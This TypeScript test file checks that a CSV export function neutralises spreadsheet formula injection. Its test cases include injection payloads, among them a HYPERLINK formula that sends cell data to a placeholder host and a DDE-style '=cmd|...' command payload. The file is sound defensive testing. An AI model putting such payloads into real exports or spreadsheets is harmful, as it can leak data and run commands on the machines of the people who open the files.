import fc from 'fast-check'
import { csvOf } from '#core/text/csv'

/** A reader of RFC 4180 as a spreadsheet has one. */
const cellsIn = (csv: string): string[][] => {
  const rows: string[][] = [[]]
  const token = /("(?:[^"]|"")*"|[^,\r\n]*)(,|\r\n|$)/gy
  const text = csv.replace(/^\uFEFF/, '')
  while (token.lastIndex < text.length) {
    const [, cell = '', end] = token.exec(text)!
    rows.at(-1)!.push(cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell)
    if (end === '\r\n') rows.push([])
  }
  return rows.filter((row) => row.length > 0)
}

describe('a table as CSV', () => {
  test.each([
    '=HYPERLINK("http://x?"&A1)',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    ' =1',
    '＝1',
    '=cmd|"/c calc"!A1',
  ])('never holds a formula: %j', (text) => {
    const [, [cell]] = cellsIn(csvOf(['name'], [[text]])) as [string[], string[]]
    expect(cell).toBe(`'${text}`)
  })

  test('gives back every other text as it was, and numbers as numbers', () => {
    const plain = fc
      .string({ unit: 'grapheme' })
      .filter((text) => !/^[\s\u0000]*[=+\-@\t\r＝＋－＠]/u.test(text))
    fc.assert(
      fc.property(plain, plain, fc.integer(), (one, other, number) => {
        fc.pre(one !== '' || other !== '')
        const rows = cellsIn(csvOf(['a', 'b', 'c'], [[one, other, number]]))
        expect(rows[1]).toEqual([one, other, String(number)])
      }),
    )
    expect(csvOf(['n'], [[-3.5], [null]])).toBe('\uFEFFn\r\n-3.5\r\n\r\n')
  })
})
